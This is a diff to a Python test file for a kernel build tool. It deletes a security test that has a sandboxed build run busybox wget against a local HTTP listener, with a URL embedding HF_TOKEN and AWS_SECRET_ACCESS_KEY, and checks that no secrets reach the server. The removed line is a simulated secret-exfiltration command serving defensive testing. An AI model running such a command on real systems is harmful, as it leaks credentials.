@@ -4,11 +4,8 @@ from __future__ import annotations
 
 import json
 import os
-import threading
 from collections.abc import Iterator
-from http.server import BaseHTTPRequestHandler, HTTPServer
 from pathlib import Path
-from typing import ClassVar
 
 import pytest
 
@@ -18,7 +15,6 @@ from kernel_builder.machine.environment import CACHE, PIP, choose_variables
 from kernel_builder.machine.process import run
 from kernel_builder.messages.errors import KernelBuilderError
 from kernel_builder.nix.quoting import nix_string
-from tests.build.one_step import BUSYBOX
 from tests.cli.conftest import *  # noqa: F403  (fixtures)
 from tests.cli.fake_kernel import SYSTEM
 from tests.cli.store import Store
@@ -80,37 +76,6 @@ def test_a_build_sees_no_token(store: Store, salt: str) -> None:
     assert "the end" in said
     assert "HF_TOKEN" in said
     assert CANARY not in said
-
-
-class Listener(BaseHTTPRequestHandler):
-    """Keeps what it is asked for."""
-
-    asked: ClassVar[list[str]] = []
-
-    def do_GET(self) -> None:
-        self.asked.append(self.path)
-        self.send_error(404)
-
-    def log_message(self, format: str, *args: object) -> None:  # noqa: A002
-        pass
-
-
-@pytest.mark.usefixtures("secrets")
-@pytest.mark.attack(
-    "build", "a download step asks a server of this machine", "it has no token to send"
-)
-def test_a_server_gets_no_token(store: Store, salt: str) -> None:
-    """Downloads need the network, so the server is reached; there is nothing to tell it."""
-    server = HTTPServer(("127.0.0.1", 0), Listener)
-    threading.Thread(target=server.serve_forever, daemon=True).start()
-    address = f"http://127.0.0.1:{server.server_port}/{salt}-$HF_TOKEN,$AWS_SECRET_ACCESS_KEY"
-    drv = thief(
-        store, salt, f'exec -a busybox $busybox wget -q -O- "{address}"', busybox=str(BUSYBOX)
-    )
-    nix.realise([drv], lambda _: True)
-    server.shutdown()
-    server.server_close()
-    assert Listener.asked == [f"/{salt}-,"]
 
 
 @pytest.mark.usefixtures("secrets")
